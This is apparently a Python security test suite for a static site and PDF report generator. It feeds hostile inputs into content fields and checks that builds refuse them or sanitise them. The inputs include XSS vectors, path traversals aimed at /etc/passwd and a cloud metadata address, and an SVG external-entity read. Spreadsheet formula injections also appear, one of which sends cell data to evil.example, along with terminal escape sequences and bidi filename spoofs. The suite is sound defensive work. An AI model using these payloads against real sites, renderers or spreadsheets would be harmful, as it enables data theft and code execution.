"""Nothing let in: the hostile corpus in tests/hostile/ put into every field of the default content.

Each case is built for real, site and PDFs, with the network cut off and every request of the PDF
renderer recorded. A case ends either in a clean error (exit 1, `path:line:col: message` at the
value that was planted, nothing written) or in a safe output (tests/safe_output.py): no script,
handler, foreign URL or forbidden element from content in any page or feed, the site's
Content-Security-Policy on every page, no bidi control anywhere a reader sees text, no local
file in a PDF, and the renderer never asked for a file outside the templates' static/ folders
and content/assets/. Each test says which of the two it expects.
"""

from __future__ import annotations

import re
import socket
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pypdf
import pytest
import tinyhtml5
import yaml

from sitrep.render import env as env_module
from sitrep.render.pdf import SafeFetcher
from sitrep.render.text import render_markdown
from tests.hostile_content import HostileTree, chunks
from tests.safe_output import BIDI_CONTROLS, check_fragment, check_site, pdf_texts
from tests.snapshots import Run, build, leftovers, tree_digest

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = Path(__file__).resolve().parent / "hostile"
XSS = yaml.safe_load((HOSTILE / "xss.yaml").read_text(encoding="utf-8"))
URLS = yaml.safe_load((HOSTILE / "urls.yaml").read_text(encoding="utf-8"))
BIDI = yaml.safe_load((HOSTILE / "bidi.yaml").read_text(encoding="utf-8"))
VECTORS = [item["vector"] for item in XSS]
WEB_URLS = [url for group in URLS.values() for url in group if re.match(r"^https?://", url)]
OTHER_URLS = [url for group in URLS.values() for url in group if not re.match(r"^https?://", url)]
#: A problem line; its path is printed from where the command ran (absolute for a test's tmp folder),
#: and kept here from the content folder down.
PROBLEM = re.compile(r"^\s*(\S+\.(?:yaml|md)):(\d+):(\d+): (.*)$", re.MULTILINE)
KHARAB = "incidents/2024-04-21-kharab-al-jir-rockets.yaml"
LATEST_BRIEF = "briefs/2024-04-22.yaml"


# --- Building with the network cut off and the PDF renderer watched ---------------------------------

@dataclass
class Guarded:
    """A build's result, the network connections it tried, and what the PDF renderer asked for."""

    run: Run
    connections: list[str] = field(default_factory=list)
    served: list[tuple[str, Path]] = field(default_factory=list)
    refused: list[str] = field(default_factory=list)


@contextmanager
def network_cut_off(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """Make every socket connection and name lookup fail, and record the attempts."""
    attempts: list[str] = []

    def refuse(name: str) -> Callable[..., object]:
        def refused(*args: object, **kwargs: object) -> object:
            attempts.append(f"{name}{args[1:] if name.startswith('socket.') else args}")
            raise OSError(f"network access during a build: {name}")
        return refused

    with monkeypatch.context() as patch:
        patch.setattr(socket.socket, "connect", refuse("socket.connect"))
        patch.setattr(socket.socket, "connect_ex", refuse("socket.connect_ex"))
        patch.setattr(socket, "create_connection", refuse("create_connection"))
        patch.setattr(socket, "getaddrinfo", refuse("getaddrinfo"))
        yield attempts


def guarded_build(monkeypatch: pytest.MonkeyPatch, content: Path, output: Path, *extra: str | Path) -> Guarded:
    """Build in this process (PDFs too, with one job so the renderer runs here) with the network cut off."""
    result = Guarded(Run(-1, "", ""))
    original = SafeFetcher.fetch

    def recording_fetch(self: SafeFetcher, url: str, headers: dict[str, str] | None = None) -> object:
        path = self.resolve(url)
        if path is None:
            result.refused.append(url)
        else:
            result.served.append((url, path))
        return original(self, url, headers)

    with monkeypatch.context() as patch, network_cut_off(monkeypatch) as connections:
        patch.setattr(SafeFetcher, "fetch", recording_fetch)
        result.run = build(content, output, "--jobs", "1", *extra)
    result.connections = connections
    return result


def allowed_roots(content: Path, theme: Path | None = None) -> list[Path]:
    """Return the only folders the PDF renderer may read: the templates' static files and content/assets."""
    roots = [env_module.DEFAULT_TEMPLATES / "static", content / "assets"] + ([theme / "static"] if theme else [])
    return [root.resolve() for root in roots]


def assert_safe_build(guarded: Guarded, content: Path, output: Path, site_url: str | None = None) -> None:
    """Assert the build succeeded and its output is safe, with no request outside the allowed folders."""
    assert guarded.run.status == 0, guarded.run.err
    assert "Traceback" not in guarded.run.err
    assert guarded.connections == []
    assert guarded.refused == []
    roots = allowed_roots(content)
    outside = [url for url, path in guarded.served if not any(path.resolve().is_relative_to(r) for r in roots)]
    assert outside == []
    assert any(path.suffix == ".css" for _, path in guarded.served), "the PDF renderer was not watched"
    assert sorted(p.name for p in output.rglob("*.pdf")), "no PDF was built"
    assert check_site(output, site_url) == []


def assert_clean_errors(run: Run, planted: set[tuple[str, int]], output: Path) -> list[tuple[str, int, str]]:
    """Assert exit 1 with a `path:line:col: message` at every planted value, and nothing written."""
    assert run.status == 1, run.err
    assert "Traceback" not in run.err
    found = [(path.rpartition("content/")[2], int(line), message)
             for path, line, _, message in PROBLEM.findall(run.err)]
    missing = planted - {(path, line) for path, line, _ in found}
    assert not missing, f"no error at {sorted(missing)[:10]}:\n{run.err[:3000]}"
    assert not output.exists()
    assert leftovers(output) == []
    return found


# --- Safe output: hostile text in every text field ------------------------------------------------

def plant_markdown(tree: HostileTree, items: list[str], share: int) -> None:
    """Put every item into one brief's summary (so each reaches a PDF) and a rotating share into every other text."""
    everything = "\n\n".join(items)
    summary = next(s for s in tree.slots("markdown") if s.file == LATEST_BRIEF and s.field == "summary")
    size = len(everything) // share
    for index, slot in enumerate(tree.slots("markdown")):
        text = everything if slot.node is summary.node else chunks(items, index * len(items) // share, size, "\n\n")
        tree.set(slot, text)
    for index, rel in enumerate(tree.bodies()):
        tree.set_body(rel, chunks(items, index * 17, size, "\n\n"))


def plant_xss(tree: HostileTree) -> None:
    """Put every vector into every kind of text: chunks in short fields and tags, Markdown in long ones."""
    for index, slot in enumerate(tree.slots("short")):
        tree.set(slot, chunks(VECTORS, index * 7, 600))
    for index, slot in enumerate(tree.slots("tag")):
        tree.set(slot, chunks(VECTORS, index * 11, slot.limit))
    plant_markdown(tree, VECTORS + ["All at once, inline: " + " ".join(VECTORS)], share=10)


def plant_urls(tree: HostileTree) -> None:
    """Put web addresses in URL fields, and every address as link, image and raw HTML in Markdown and text."""
    every = WEB_URLS + OTHER_URLS
    tree.add("site.yaml", "base_url", WEB_URLS[0])
    tree.add_to_every("credibility", "url", WEB_URLS[1], unless="document")  # a document citation has no url
    tree.add_to_every("relays", "url", WEB_URLS[1])  # the document has
    for index, slot in enumerate(tree.slots("url")):
        if slot.field != "base_url":
            tree.set(slot, WEB_URLS[index % len(WEB_URLS)])
    for index, slot in enumerate(tree.slots("short")):
        tree.set(slot, chunks(every, index, 400))
    plant_markdown(tree, [f'[link]({url}) ![image]({url}) <a href="{url}">raw link</a> <img src="{url}"> '
                          f"<{url}> {url}" for url in every], share=10)


def plant_bidi(tree: HostileTree) -> None:
    """Put the bidi tricks into every text field and every Markdown text."""
    texts = [item["text"] for item in BIDI]
    for index, slot in enumerate(tree.slots("short", "tag")):
        tree.set(slot, chunks(texts, index, slot.limit))
        if slot.field in ("title", "name"):  # so that it reaches the PDF's title and outline and the map
            tree.set(slot, f"{texts[0]} {slot.node.value}"[: slot.limit])
    plant_markdown(tree, texts, share=1)


def plant_huge(tree: HostileTree) -> None:
    """Put the largest values the model allows where they hurt layout most: unbroken words, long Markdown."""
    for slot in tree.slots("short"):
        if slot.field in ("name", "title"):
            tree.set(slot, "W" * slot.limit)
    summary = next(s for s in tree.slots("markdown") if s.file == KHARAB and s.field == "summary")
    tree.set(summary, "An unbroken " + "x" * 10_000 + " word.\n\n" + "- item\n" * 200 + "> " * 90 + "deep\n\n"
             + "word " * 3_000)


SAFE_CASES: dict[str, Callable[[HostileTree], None]] = {
    "xss_in_every_text_field": plant_xss, "urls_in_every_field": plant_urls,
    "bidi_in_every_text_field": plant_bidi, "huge_values": plant_huge}


@pytest.mark.parametrize("case", sorted(SAFE_CASES))
def test_hostile_text_ends_in_a_safe_site_and_pdf(case: str, content_copy: Path, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    tree = HostileTree(content_copy)
    SAFE_CASES[case](tree)
    tree.save()
    before = tree_digest(content_copy)
    output = tmp_path / "output"
    guarded = guarded_build(monkeypatch, content_copy, output)
    assert_safe_build(guarded, content_copy, output, WEB_URLS[0] if case == "urls_in_every_field" else None)
    assert tree_digest(content_copy) == before
    if case in SHOWN:
        SHOWN[case](output)


def shown_as_text(output: Path) -> None:
    """Template syntax from content is shown, not run: Jinja never sees content as a template."""
    pages = "".join(path.read_text(encoding="utf-8") for path in output.rglob("*.html"))
    assert "{{ 7*191 }}" in pages and "1337" not in pages
    assert "&lt;SCRIPT SRC=https://cdn.jsdelivr.net" in pages  # escaped, not dropped, in plain text fields


def bidi_reached_title_and_map(output: Path) -> None:
    """The tricks were really in the PDF's title and the map's labels, and were neutralised there."""
    pdf = pypdf.PdfReader(output / "briefs" / "brief-2024-04-22.pdf")
    assert "gnp.exe" in pdf.metadata.title and not BIDI_CONTROLS.search(pdf.metadata.title)
    # The PDF's text keeps no control character either way, but an override that got through shows
    # in the order of what it drew: "Attack on base exe.png".
    text = "".join(pdf_texts(output / "briefs" / "brief-2024-04-22.pdf"))  # as check_site extracted it
    assert "gnp.exe" in text and "exe.png" not in text
    page = (output / "briefs" / "brief-2024-04-22.html").read_text(encoding="utf-8")
    start = page.rindex("<svg", 0, page.index('class="sitrep-map"'))  # the map, not an icon before it
    svg = page[start:page.index("</svg>", start)]
    assert "gnp.exe" in svg and not BIDI_CONTROLS.search(svg)


SHOWN: dict[str, Callable[[Path], None]] = {"xss_in_every_text_field": shown_as_text,
                                            "bidi_in_every_text_field": bidi_reached_title_and_map}


# --- Clean errors: hostile values where the model wants something else -----------------------------

def test_code_and_local_file_urls_are_refused_at_their_line(content_copy: Path, tmp_path: Path) -> None:
    tree = HostileTree(content_copy)
    tree.add("site.yaml", "base_url", "https://example.org/")
    tree.add_to_every("credibility", "url", "https://example.org/report")
    slots = tree.slots("url")
    for index, slot in enumerate(slots):
        tree.set(slot, OTHER_URLS[index % len(OTHER_URLS)])
    tree.save()
    planted = set().union(*(tree.lines_of(OTHER_URLS[i % len(OTHER_URLS)]) for i in range(len(slots))))
    assert len(planted) == len(slots) >= len(OTHER_URLS)  # every address of the corpus in some field
    assert_clean_errors(build(content_copy, tmp_path / "output"), planted, tmp_path / "output")


STRUCTURED_VECTOR = "<script>alert(1)</script>"
#: Checked only once the fields they depend on are valid: planted alone below.
CHECKED_AFTER = {"sub_event_type", "timezone"}


def plant_structured(tree: HostileTree, fields: set[str] | None = None) -> set[tuple[str, int]]:
    """Put markup into the first value of every kind of structured field; return where each went."""
    seen: set[tuple[str, str]] = set()
    values = []
    for slot in tree.slots("structured"):
        kind = (slot.file.split("/")[0], slot.field)
        if kind in seen or (fields is not None and slot.field not in fields):
            continue
        seen.add(kind)
        values.append(f"{STRUCTURED_VECTOR}{len(values)}")
        tree.set(slot, values[-1])
    tree.save()
    return set().union(*(tree.lines_of(value) for value in values))


def test_hostile_text_in_ids_references_codes_and_dates_is_refused_at_its_line(content_copy: Path,
                                                                             tmp_path: Path) -> None:
    tree = HostileTree(content_copy)
    fields = {slot.field for slot in tree.slots("structured")} - CHECKED_AFTER
    planted = plant_structured(tree, fields)
    assert len(planted) > 30
    assert_clean_errors(build(content_copy, tmp_path / "output"), planted, tmp_path / "output")


@pytest.mark.parametrize("field", sorted(CHECKED_AFTER))
def test_hostile_text_in_a_dependent_field_is_refused_at_its_line(field: str, content_copy: Path,
                                                                  tmp_path: Path) -> None:
    tree = HostileTree(content_copy)
    planted = plant_structured(tree, {field})
    assert planted
    assert_clean_errors(build(content_copy, tmp_path / "output"), planted, tmp_path / "output")


TRAVERSALS = ["../../../../etc/passwd", "/etc/passwd", "photos/../../../etc/passwd", "..", "file:///etc/passwd",
              "C:\\Windows\\win.ini", "\\\\server\\share\\x.png", "%2e%2e/%2e%2e/etc/passwd", "outside.png",
              "photos/missing.jpg", "photos/base.jpg\0.png", "http://169.254.169.254/latest/meta-data/"]


def test_attachment_paths_leaving_content_are_refused_at_their_line(content_copy: Path, tmp_path: Path) -> None:
    assets = content_copy / "assets"
    (assets / "photos").mkdir(parents=True)
    (assets / "photos" / "base.jpg").write_bytes(b"\xff\xd8\xff\xe0 a photo")
    (assets / "outside.png").symlink_to("/etc/passwd")
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "secret.png").write_bytes(b"not for publication")
    (assets / "photos" / "out").symlink_to(tmp_path / "elsewhere")
    tree = HostileTree(content_copy)
    paths = [*TRAVERSALS, "photos/out/secret.png"]
    tree.add(KHARAB, "attachments", [{"path": p, "caption": "Hostile"} for p in paths])
    tree.save()
    planted = set().union(*(tree.lines_of(p) for p in paths))
    assert len(planted) == len(paths)
    assert_clean_errors(build(content_copy, tmp_path / "output"), planted, tmp_path / "output")


def test_symlink_loops_in_assets_that_nothing_uses_are_ignored(content_copy: Path, tmp_path: Path) -> None:
    """Links in assets/ that no attachment or image names are never followed: the build succeeds."""
    (content_copy / "assets" / "photos").mkdir(parents=True)
    (content_copy / "assets" / "photos" / "loop").symlink_to(content_copy / "assets")
    (content_copy / "assets" / "up").symlink_to(content_copy)
    output = tmp_path / "output"
    run = build(content_copy, output, "--no-pdf")
    assert run.status == 0, run.err
    assert "Traceback" not in run.err and "internal error" not in run.err
    assert not (output / "media").exists()  # nothing of content/ published through the links
    assert check_site(output) == []


def test_an_attachment_inside_assets_is_published(content_copy: Path, tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    """The positive case for the test above: a real attachment is accepted, so the refusals mean something."""
    (content_copy / "assets" / "photos").mkdir(parents=True)
    (content_copy / "assets" / "photos" / "base.jpg").write_bytes(b"\xff\xd8\xff\xe0 a photo")
    tree = HostileTree(content_copy)
    tree.add(KHARAB, "attachments", [{"path": "photos/base.jpg", "caption": "The base"}])
    tree.save()
    output = tmp_path / "output"
    run = build(content_copy, output, "--no-pdf")
    assert run.status == 0, run.err
    assert check_site(output) == []
    assert (output / "media" / "photos" / "base.jpg").read_bytes() == b"\xff\xd8\xff\xe0 a photo"


@pytest.mark.parametrize("name, text", [
    ("script.html", "<script>alert(document.cookie)</script>"),
    ("map.svg", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'),
    ("page.xhtml", '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'),
])
def test_attachment_a_browser_would_run_is_refused(name: str, text: str, content_copy: Path, tmp_path: Path) -> None:
    """Published under media/, such a file would run with the site's origin and no Content-Security-Policy."""
    (content_copy / "assets").mkdir()
    (content_copy / "assets" / name).write_text(text)
    tree = HostileTree(content_copy)
    tree.add(KHARAB, "attachments", [{"path": name, "caption": "Looks harmless"}])
    tree.save()
    assert_clean_errors(build(content_copy, tmp_path / "output"), tree.lines_of(name), tmp_path / "output")


def test_values_over_the_limits_are_refused_at_their_line(content_copy: Path, tmp_path: Path) -> None:
    tree = HostileTree(content_copy)
    title = next(s for s in tree.slots("short") if s.file == KHARAB and s.field == "title")
    summary = next(s for s in tree.slots("markdown") if s.file == KHARAB and s.field == "summary")
    tree.set(title, "T" * 2001)
    tree.set(summary, "S" * 100_001)
    tree.save()
    planted = tree.lines_of("T" * 2001) | tree.lines_of("S" * 100_001)
    assert_clean_errors(build(content_copy, tmp_path / "output"), planted, tmp_path / "output")


CONTROLS = ["\0", "\x0b", "\x1b", "\ufffe", "\ud800"]


def test_escaped_control_characters_are_refused_or_dropped(content_copy: Path, tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    """YAML lets a double-quoted string hold any character as an escape; none may break a page or a feed."""
    tree = HostileTree(content_copy)
    titles = [s for s in tree.slots("short") if s.field in ("title", "name")]
    values = [f"Rockets{char}at Kharab al-Jir" for char in CONTROLS]
    for slot, value in zip(titles, values):
        tree.set(slot, value)
    tree.save()
    output = tmp_path / "output"
    guarded = guarded_build(monkeypatch, content_copy, output)
    refused = {value for value in values if any(line in guarded.run.err for line in
                                                 (f"{rel}:{n}:" for rel, n in tree.lines_of(value)))}
    assert refused == {values[-1]}  # a lone surrogate cannot even be written as UTF-8: refused at its line
    assert_clean_errors(guarded.run, tree.lines_of(values[-1]), output)
    for slot, value in zip(titles, values[:-1]):
        tree.set(slot, value)
    tree.set(titles[len(values) - 1], "Back to a plain name")
    tree.save()
    guarded = guarded_build(monkeypatch, content_copy, output)
    assert_safe_build(guarded, content_copy, output)
    for path in output.rglob("*"):
        if path.suffix in (".html", ".xml", ".json", ".csv", ".geojson", ".txt"):
            text = path.read_text(encoding="utf-8")
            assert not any(char in text for char in CONTROLS[:-1]), path


# --- Markdown images, links and assets ------------------------------------------------------------

@pytest.mark.parametrize("url", WEB_URLS + OTHER_URLS)
def test_markdown_keeps_no_foreign_image_and_no_code_link(url: str) -> None:
    html = str(render_markdown(f'[a]({url}) ![b]({url}) <a href="{url}">c</a> <img src="{url}"> <{url}>'))
    assert list(check_fragment(html)) == []
    elements = list(tinyhtml5.parse(f"<body>{html}</body>").iter())
    assert [e.get("src") for e in elements if e.get("src") is not None] == []
    links = [e.get("href") for e in elements if e.get("href") is not None]
    assert all(re.match(r"^(https?://[^/\\]|mailto:|#)", link, re.IGNORECASE) for link in links), links


@pytest.mark.parametrize("item", XSS, ids=[item["name"] for item in XSS])
def test_markdown_sanitiser_leaves_nothing_that_runs(item: dict[str, str]) -> None:
    html = str(render_markdown(item["vector"]))
    assert list(check_fragment(html)) == []
    assert not re.search(r"<(script|style|iframe|object|embed|form|svg|math|meta|link|base)\b", html, re.IGNORECASE)


@pytest.mark.parametrize("item", BIDI, ids=[item["name"] for item in BIDI])
def test_markdown_neutralises_bidi_controls_even_as_character_references(item: dict[str, str]) -> None:
    html = str(render_markdown(item["text"]))
    assert not BIDI_CONTROLS.search(html)
    assert all(mark in html for mark in item.get("keep", []))


def test_markdown_image_of_a_symlink_out_of_assets_stops_the_build(content_copy: Path, tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    (content_copy / "assets").mkdir()
    (content_copy / "assets" / "passwd.png").symlink_to("/etc/passwd")
    tree = HostileTree(content_copy)
    summary = next(s for s in tree.slots("markdown") if s.file == KHARAB and s.field == "summary")
    tree.set(summary, "Satellite image:\n\n![the base](assets/passwd.png)")
    tree.save()
    output = tmp_path / "output"
    guarded = guarded_build(monkeypatch, content_copy, output)
    # Refused at the line that shows the image (the value's third), before any PDF asks for it (issue 13).
    (_, start), = tree.lines_of("Satellite image:\n\n![the base](assets/passwd.png)")
    found = assert_clean_errors(guarded.run, set(), output)
    assert [(path, line) for path, line, message in found if "image 'assets/passwd.png' must be a file" in message] \
        == [(KHARAB, start + 3)], guarded.run.err
    assert guarded.refused == [] and guarded.served == []


def test_markdown_image_from_assets_reaches_the_pdf(content_copy: Path, tmp_path: Path,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    (content_copy / "assets").mkdir()
    (content_copy / "assets" / "map.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="40"><text y="20">Sketch map</text></svg>')
    tree = HostileTree(content_copy)
    summary = next(s for s in tree.slots("markdown") if s.file == KHARAB and s.field == "summary")
    tree.set(summary, "Map:\n\n![the map](assets/map.svg)")
    tree.save()
    output = tmp_path / "output"
    guarded = guarded_build(monkeypatch, content_copy, output)
    assert_safe_build(guarded, content_copy, output)
    assert (content_copy / "assets" / "map.svg").resolve() in {path for _, path in guarded.served}
    assert any("Sketch map" in text for text in pdf_texts(output / "briefs" / "brief-2024-04-22.pdf"))


def test_svg_in_assets_with_an_external_entity_stops_the_build(content_copy: Path, tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    (content_copy / "assets").mkdir()
    (content_copy / "assets" / "map.svg").write_text(
        '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY leak SYSTEM "file:///etc/passwd">]>\n'
        '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="40"><text y="20">&leak;</text></svg>')
    tree = HostileTree(content_copy)
    summary = next(s for s in tree.slots("markdown") if s.file == KHARAB and s.field == "summary")
    tree.set(summary, "Map:\n\n![the map](assets/map.svg)")
    tree.save()
    output = tmp_path / "output"
    guarded = guarded_build(monkeypatch, content_copy, output)
    assert guarded.run.status == 1 and "assets/map.svg" in guarded.run.err, guarded.run.err
    assert "Traceback" not in guarded.run.err
    assert guarded.refused == [] and guarded.connections == []
    assert not output.exists()


def test_svg_in_assets_cannot_make_the_renderer_fetch_a_local_file(content_copy: Path, tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    (content_copy / "assets").mkdir()
    (content_copy / "assets" / "map.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" '
        'height="20"><image xlink:href="file:///etc/passwd" width="20" height="20"/>'
        '<image href="http://169.254.169.254/latest/meta-data/" width="20" height="20"/></svg>')
    tree = HostileTree(content_copy)
    summary = next(s for s in tree.slots("markdown") if s.file == KHARAB and s.field == "summary")
    tree.set(summary, "![the map](assets/map.svg)")
    tree.save()
    output = tmp_path / "output"
    guarded = guarded_build(monkeypatch, content_copy, output)
    assert guarded.run.status == 1, guarded.run.err
    assert "assets/map.svg" in guarded.run.err and "Traceback" not in guarded.run.err
    assert "file:///etc/passwd" in guarded.refused
    assert guarded.connections == []
    assert not output.exists()


# --- The guards themselves, and the protections that are configuration ----------------------------

def test_network_guard_sees_a_connection(monkeypatch: pytest.MonkeyPatch) -> None:
    with network_cut_off(monkeypatch) as attempts, pytest.raises(OSError):
        urllib.request.urlopen("http://169.254.169.254/latest/meta-data/", timeout=1)
    assert attempts


def test_fetch_guard_sees_a_refused_request(content_copy: Path, tmp_path: Path,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    theme = tmp_path / "theme"
    (theme / "static" / "css").mkdir(parents=True)
    (theme / "static" / "css" / "pdf.css").write_text('@import url("http://169.254.169.254/theme.css");\n')
    guarded = guarded_build(monkeypatch, content_copy, tmp_path / "output", "--theme", theme)
    assert guarded.run.status == 1
    assert guarded.refused == ["http://169.254.169.254/theme.css"]
    assert guarded.connections == []


def test_safe_output_check_finds_planted_leaks(tmp_path: Path) -> None:
    """The checker must be able to fail: one page with one of each leak."""
    page = tmp_path / "index.html"
    page.write_text('<!DOCTYPE html><html><head><title>x</title></head><body>'
                    '<script>alert(1)</script><p onclick="x">\u202e</p><a href="javascript:x">a</a>'
                    '<a href="https://example.org">b</a><img src="http://evil.example/p.png"><iframe></iframe>'
                    "</body></html>")
    (tmp_path / "feed.xml").write_text("<feed>\0</feed>")
    leaks = "\n".join(check_site(tmp_path))
    for expected in ("0 Content-Security-Policy", "inline <script>", "onclick", "bidi control", "javascript:",
                     "without rel=", "fetched from outside", "<iframe>", "not well-formed"):
        assert expected in leaks


def test_every_template_is_autoescaped_and_strict() -> None:
    env = env_module.make_env()
    for name in env.list_templates(extensions=["html", "xml", "svg"]):
        escape = env.autoescape(name) if callable(env.autoescape) else env.autoescape
        assert escape, f"{name} is not autoescaped"
        source = env.loader.get_source(env, name)[0]
        assert not re.search(r"{%-?\s*autoescape\s+false", source), f"{name} turns autoescaping off"
    assert issubclass(env.undefined, __import__("jinja2").StrictUndefined)
    rendered = env.from_string("{{ text }}").render(text='<script>alert("x")</script>\u202e')
    assert rendered == "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;"


def test_only_svg_made_by_sitrep_is_marked_safe_in_templates() -> None:
    """`| safe` bypasses escaping: only the SVG map and charts, which escape their own labels, may use it."""
    uses = []
    for path in sorted((ROOT / "templates").rglob("*")):
        if path.suffix in (".html", ".xml"):
            for match in re.finditer(r"{{\s*([^{}]*?)\s*\|\s*safe\b", path.read_text(encoding="utf-8")):
                uses.append((path.relative_to(ROOT / "templates").as_posix(), match[1]))
    unexpected = [(name, value) for name, value in uses
                  if not re.fullmatch(r"visuals\.\w+|svg|\w*(map|chart)\w*", value)]
    assert unexpected == []


def test_terminal_escapes_in_content_never_reach_the_terminal(content_copy: Path, tmp_path: Path) -> None:
    """An error shows the offending line: raw, an escape sequence there would clear or retitle the terminal."""
    hostile = "\x1b]0;pwned\x07\x1b[2J\x1b[31mred \u202eexe.txt\x9b1m"
    (content_copy / "incidents" / "evil.yaml").write_text(f"id: evil\ntitle: x\nnote: {hostile}\n", encoding="utf-8")
    (content_copy / "incidents" / "\x1b[2Jname.yaml").write_text("id: [unclosed\n", encoding="utf-8")
    run = build(content_copy, tmp_path / "output")
    assert run.status == 1
    assert "evil.yaml:3:" in run.err and "name.yaml:" in run.err
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", run.err), repr(run.err)


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Details")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1"]


def test_names_that_spreadsheets_run_as_formulas_are_quoted_in_the_csv(content_copy: Path, tmp_path: Path) -> None:
    tree = HostileTree(content_copy)
    targets = [s for s in tree.slots("short") if s.field in ("name", "admin1") and s.file.startswith(
        ("actors/", "locations/"))]
    for slot, formula in zip(targets, FORMULAS * 10):
        tree.set(slot, formula)
    tree.save()
    output = tmp_path / "output"
    run = build(content_copy, output, "--no-pdf")
    assert run.status == 0, run.err
    rows = list(__import__("csv").reader((output / "data" / "incidents.csv").open(encoding="utf-8", newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert any(cell.startswith("'") for cell in cells), "no planted name reached the CSV"
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")
                or re.match(r"-(?![\d.]+$)", cell)]
    assert any(re.fullmatch(r"-?\d+\.\d{4}", cell) for cell in cells)  # coordinates stay numbers
